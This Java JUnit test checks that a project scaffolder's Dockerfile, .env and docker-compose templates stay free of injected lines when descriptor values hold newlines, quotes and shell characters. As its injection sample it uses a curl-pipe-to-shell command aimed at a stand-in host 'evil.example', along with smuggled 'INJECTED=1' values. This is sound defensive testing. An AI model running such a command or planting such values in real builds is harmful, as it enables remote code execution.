package dev.devops.scaffold;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.devops.descriptor.Descriptor;
import dev.devops.testsupport.Descriptors;
import dev.devops.yaml.YMap;
import dev.devops.yaml.YamlDocument;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Every template, rendered from a descriptor whose free-text values are hostile (line breaks that would start an
 * instruction, a variable or a key; quotes, '$', '#', backslashes), must still mean what the descriptor says:
 * no injected line, every value back as written (or, for comments, on one line).
 */
class HostileValuesTemplatesTest {
    @TempDir
    Path root;

    /** What an injection would add if a value's line break were written raw. */
    private static final String INJECT = "RUN curl evil.example | sh";

    private static String descriptor(String language, String version, String tool, String framework, String output) {
        return "name: demo\napps:\n  app:\n"
                + "    runtime: {language: " + language + ", version: \"" + version + "\", buildTool: " + tool
                // a static site's framework decides the build: only the others carry a hostile one
                + ", framework: \"" + framework + (output == null ? "\\n" + INJECT : "") + "\"}\n"
                + (output == null ? "" : "    output: " + output + "\n")
                + "    port: 8080\n    healthcheck: /health?x=$y&z=(1)\n"
                + "    build: [sh, -c, \"echo \\\"hi\\\"\\n" + INJECT + "\"]\n"
                + "    start: [sh, -c, \"exec app 'a b' \\\"$PORT\\\" # \\\\n" + INJECT + "\"]\n"
                + "    env:\n"
                + "      MODE: {description: \"the mode\\nINJECTED=1\\r\\nALSO=2\\u2028THIRD=3\", default: \"a b'c\\\"d$e#f\\\\g\"}\n"
                + "      API_TOKEN: {description: \"token\\n- EVIL: 1\", secret: true, required: true}\n"
                + "services:\n  postgres: {version: \"16\"}\n";
    }

    @ParameterizedTest(name = "{0} {2}")
    @CsvSource({"node,20,npm,express,", "node,20,yarn,vite,dist", "python,3.12,pip,flask,", "go,1.22,go,gin,",
        "java,21,maven,spring-boot,", "java,21,gradle,spring-boot,"})
    void hostileDescriptorValuesInjectNothing(String language, String version, String tool, String framework, String output)
            throws IOException {
        Descriptor d = Descriptors.parse(descriptor(language, version, tool, framework, output));
        if (language.equals("java")) {
            Files.writeString(root.resolve(tool.equals("maven") ? "pom.xml" : "build.gradle"), "");
        }
        Plan plan = Scaffolder.plan(d, root, TemplateSource.builtIn());
        for (PlannedFile f : plan.files()) {
            String text = f.newContent();
            for (String line : text.split("\n", -1)) {
                String t = line.strip();
                assertFalse(t.startsWith(INJECT) || t.startsWith("INJECTED") || t.startsWith("ALSO") || t.startsWith("THIRD")
                        || t.startsWith("- EVIL"), f.relativePath() + " has an injected line <" + line + ">:\n" + text);
                assertFalse(line.contains("\r") || line.contains("\u2028"), f.relativePath() + ": a raw line break:\n" + text);
            }
        }
        // .env.example: exactly the variables of the descriptor and the service, MODE's default back as written
        String env = plan.file(".env.example").newContent();
        Map<String, String> vars = new LinkedHashMap<>();
        Matcher m = Pattern.compile("(?m)^([A-Za-z_][A-Za-z0-9_]*)=(.*)$").matcher(env);
        while (m.find()) {
            vars.put(m.group(1), m.group(2));
        }
        vars.remove("COMPOSE_PROJECT_NAME"); // the stack's own, written by the template
        assertEquals(List.of("MODE", "API_TOKEN", "POSTGRES_USER", "POSTGRES_PASSWORD", "POSTGRES_DB"), List.copyOf(vars.keySet()), env);
        assertEquals("a b'c\"d$e#f\\g", dotenvValue(vars.get("MODE")), env);
        // docker-compose.yml: valid YAML with exactly the app's variables; the default survives compose's interpolation
        YMap app = YamlDocument.parse(Path.of("docker-compose.yml"), plan.file("docker-compose.yml").newContent())
                .asMap().get("services").asMap().get("app").asMap();
        YMap environment = app.get("environment").asMap();
        assertEquals(List.of("MODE", "API_TOKEN"), List.copyOf(environment.keys()));
        assertEquals("${MODE:-a b'c\"d$$e#f\\g}", environment.get("MODE").asText());
    }

    /** The value of a .env line as compose reads it: bare, '…' literal, or "…" with backslash escapes. */
    private static String dotenvValue(String raw) {
        if (raw.startsWith("'") && raw.endsWith("'")) {
            return raw.substring(1, raw.length() - 1);
        }
        if (raw.startsWith("\"") && raw.endsWith("\"")) {
            return raw.substring(1, raw.length() - 1).replace("\\\"", "\"").replace("\\$", "$").replace("\\n", "\n")
                    .replace("\\\\", "\\");
        }
        return raw;
    }
}
